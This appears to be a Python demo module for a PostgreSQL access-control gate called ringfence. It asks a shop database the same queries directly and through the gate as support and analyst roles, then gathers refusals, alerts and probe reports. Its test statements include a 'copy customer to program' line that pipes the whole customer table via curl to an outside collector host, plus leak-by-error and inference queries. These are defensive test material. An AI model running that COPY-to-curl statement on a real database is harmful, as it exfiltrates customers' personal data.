"""What has happened when the scenes about the database begin: a shop's PostgreSQL, the gate in front of it, and what three asked.

The rule: the same statements are asked straight and through the gate, by the same program, and what came back is kept as it came.
Server, gate and their files are gone when this is done, whatever happens; nothing of them is needed to look at what they said.
"""

import json
import secrets
import time
from collections.abc import Iterable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from importlib.resources import files
from pathlib import Path

from ringfence.demo.asking import Answer, ask
from ringfence.demo.desk import Desk, Told, open_desk
from ringfence.demo.place import Done, Place
from ringfence.demo.planting import Kind, Planted, Sight
from ringfence.demo.postgres_gate import OpenGate, User, gate_up, write_users
from ringfence.demo.postgres_server import Running, Server, ServerMissing, find_installation
from ringfence.demo.postgres_shop import LOGINS, PEOPLE, Customer, customers, shop
from ringfence.demo.running import stop_writer
from ringfence.demo.story import Story, live
from ringfence.policy import read

DATABASE = "shop"
SHOWN = 35  # the customer who is asked about: with a ticket, orders and notes
POLICY, WATCH = "shop.yaml", "shop_watch.yaml"
PROBED = [
    *("--role", "support", "--role", "analyst"),
    *("--category", "user.contact.email", "--category", "user.financial.credit_card"),
]  # a part, for the demo's minute: `ringfence probe` takes all
PROBING = 240.0  # seconds: it asks a thousand times and more
ALERTED = 10.0  # seconds for alerts to come, on a machine that is busy
USERS_FILES = {"support": "staff.scram", "analyst": "analysts.scram"}


@dataclass(frozen=True, slots=True)
class Question:
    """A statement, what it is about, and whether the gate is expected to answer each of the two who ask."""

    title: str
    statement: str
    support: bool = True
    analyst: bool = True


@dataclass(frozen=True, slots=True)
class Exchange:
    """A question with three answers: straight, and through the gate as two roles."""

    question: Question
    straight: Answer
    support: Answer
    analyst: Answer


@dataclass(frozen=True)
class ShopStage:
    """What the scenes look at."""

    place: Place
    customers: Sequence[Customer]
    exchanges: Sequence[Exchange]
    transfers: Sequence[tuple[Question, Answer]]  # as support
    story: Story
    alerts: Sequence[Told]  # of all that was refused
    refused: int
    answered: Sequence[float]  # when each transfer had its answer
    reports: Mapping[str, Mapping[str, object]]
    matrix: Done  # what `ringfence probe` said

    def seen_of(self, answers: Iterable[Answer], role: str) -> int:
        """Count the values hidden from a role that can be read off answers."""
        sight = Sight("\n".join(answer.shown for answer in answers).encode())
        return sum(map(sight.shows, self.planted(role)))

    def planted(self, role: str) -> list[Planted]:
        """Give the values of the people asked about that a role must not see."""
        kinds = {
            Kind.EMAIL: "email",
            Kind.CARD: "card",
            Kind.IBAN: "iban",
            Kind.SSN: "ssn",
            Kind.PHONE: "phone",
            Kind.BIRTH_DATE: "birth_date",
        }
        if role == "analyst":
            kinds[Kind.NAME] = "name"
        asked = self.customers[SHOWN - 1 : SHOWN + 1]
        values = ((kind, getattr(one, name)) for one in asked for kind, name in kinds.items())
        return [Planted(kind, str(value)) for kind, value in values if value is not None]


@dataclass(frozen=True, slots=True)
class OpenShop:
    """The shop while it is open."""

    place: Place
    server: Server
    gate: OpenGate
    customers: Sequence[Customer]
    users: Mapping[str, User]
    desk: Desk
    environment: Mapping[str, str] = field(repr=False)  # of the gate, and of the commands that go with it
    password: str = field(repr=False)  # of the logins upstream

    def straight(self, statement: str) -> Answer:
        """Ask without a gate, as the support's login."""
        return self._ask(self.server.port, User(LOGINS["support"], self.password, "support"), statement)

    def through(self, role: str, statement: str) -> Answer:
        """Ask through the gate."""
        return self._ask(self.gate.port, self.users[role], statement)

    def psql(self, role: str) -> str:
        """Give the line that connects."""
        return f'psql "{self.gate.dsn(self.users[role], DATABASE)}"'

    def _ask(self, port: int, user: User, statement: str) -> Answer:
        return ask(self.server, port, user, DATABASE, statement)


@contextmanager
def open_shop(folder: Path) -> Iterator[OpenShop]:
    """Start PostgreSQL with the shop in it, and the gate in front; end both. Raises `ServerMissing`."""
    with _database(folder) as (server, people), open_desk() as desk, _opened(folder, server, people, desk) as opened:
        yield opened


@contextmanager
def _database(folder: Path) -> Iterator[tuple[Server, Sequence[Customer]]]:
    """Start PostgreSQL with the shop in it."""
    installation = find_installation()
    folder.mkdir(mode=0o700, parents=True, exist_ok=True)
    people = customers(PEOPLE)
    with Running(installation, folder / ".server") as server:
        server.psql("postgres", f"create database {DATABASE}")
        server.psql(DATABASE, shop(people))
        yield server, people


@contextmanager
def _opened(folder: Path, server: Server, people: Sequence[Customer], desk: Desk) -> Iterator[OpenShop]:
    """Put the gate in front of it."""
    place = Place(folder)
    place.prepare(policy_text(POLICY) + policy_text(WATCH))
    password = secrets.token_urlsafe(12)
    server.psql(DATABASE, "".join(f"alter role {login} password '{password}';" for login in LOGINS.values()))
    users = {
        "support": User("sam", secrets.token_urlsafe(12), "support"),
        "analyst": User("ann", secrets.token_urlsafe(12), "analyst", "analysts"),
    }
    for role, user in users.items():
        write_users(place.folder / USERS_FILES[role], [user])
    environment = {
        "SHOP_DSN": f"postgresql://127.0.0.1:{server.port}/{DATABASE}",
        "SHOP_PASSWORD": password,
        "SHOP_LISTEN": "127.0.0.1:0",
        "SHOP_DESK": desk.address,
        "SHOP_DESK_SECRET": secrets.token_urlsafe(24),
    }
    try:
        with gate_up(place.policy, environment) as gate:
            environment |= {f"SHOP_PROBE_{role.upper()}": gate.dsn(user, DATABASE) for role, user in users.items()}
            environment["SHOP_PROBE_REFERENCE"] = server.dsn(DATABASE)
            yield OpenShop(place, server, gate, people, users, desk, environment, password)
    finally:
        stop_writer(place)


def policy_text(name: str) -> str:
    """Give a policy file of the demo."""
    return files("ringfence.demo").joinpath(name).read_text(encoding="utf-8")


def perform_shop(folder: Path) -> ShopStage | ServerMissing:
    """Live the story, and ask every question in every way; where no PostgreSQL is there, give the words that say so."""
    known = read(POLICY, {POLICY: policy_text(POLICY)}, {})
    try:
        with _database(folder) as (server, people):
            story = live(folder / "own", server, DATABASE, known)
            with open_desk() as desk, _opened(folder, server, people, desk) as opened:
                return _performed(opened, story)
    except ServerMissing as missing:
        return missing


def _performed(opened: OpenShop, story: Story) -> ShopStage:
    exchanges = [
        Exchange(
            one,
            opened.straight(one.statement),
            opened.through("support", one.statement),
            opened.through("analyst", one.statement),
        )
        for one in questions(opened.customers[SHOWN - 1])
    ]
    transfers, answered = [], []
    for one in TRANSFERS:
        transfers.append((one, opened.through("support", one.statement)))
        answered.append(time.monotonic())
    asked = [answer for one in exchanges for answer in (one.support, one.analyst)]
    refused = sum(answer.is_refused for answer in (*asked, *(answer for _, answer in transfers)))
    alerts = opened.desk.wait(refused, ALERTED)
    place, environment = opened.place, opened.environment
    reports = {
        name: json.loads(place.call("report", *name.split(), "--format", "json", environment=environment).out)
        for name in ("crossings", "breach --zone analytics")
    }
    matrix = place.call("probe", *PROBED, "--format", "json", environment=environment, seconds=PROBING)
    return ShopStage(
        place,
        opened.customers,
        exchanges,
        transfers,
        story,
        alerts,
        refused,
        answered,
        reports,
        matrix,
    )


def questions(one: Customer) -> Sequence[Question]:
    """Give the ten questions. One holds the address of somebody who is on the telephone."""
    mail = one.email.replace("'", "''")
    return [replace(question, statement=question.statement.replace("MAIL", mail)) for question in _QUESTIONS]


_QUESTIONS = (
    Question("As support would write it", "select id, name, email, phone, card from customer where id in (35, 36)"),
    Question(
        "An alias, capitals, backwards", "select upper(email) as note, reverse(card) as n from customer where id = 35"
    ),
    Question("Out of a view of a view", "select from_address, beginning from support_inbox where id = 35"),
    Question("Out of functions", "select email_of(35) as e, initials('Ada Lovelace'), order_total(140)"),
    Question("Free text", "select body from support_ticket where id = 35"),
    Question("JSON, by its paths", "select preferences from customer where id = 35"),
    Question("Nothing personal: the same bytes", "select segment, customers from segment_size order by segment"),
    Question(
        "A customer on the telephone: equality, within a budget",
        "select id, segment from customer where email = 'MAIL'",
        analyst=False,
    ),
    Question("COPY", "copy (select id, email, birth_date from customer where id = 35) to stdout"),
    Question(
        "An error that quotes the value",
        "select email::int from customer where id = 35",
        support=False,
        analyst=False,
    ),
)

TRANSFERS = (
    Question("Straight into a program", "copy customer to program 'curl --data-binary @- https://collect.example.com'"),
    Question(
        "A search by what may not be seen",
        "select id from customer where birth_date > '1990-01-01' order by birth_date",
    ),
    Question("A column that nobody has judged", "select attachment from support_ticket where id = 25"),
    Question(
        "A card number into a ticket",
        "insert into support_ticket (customer_id, subject, body) values (35, 'refund', 'to card 4539 7712 3456 7897')",
    ),
)
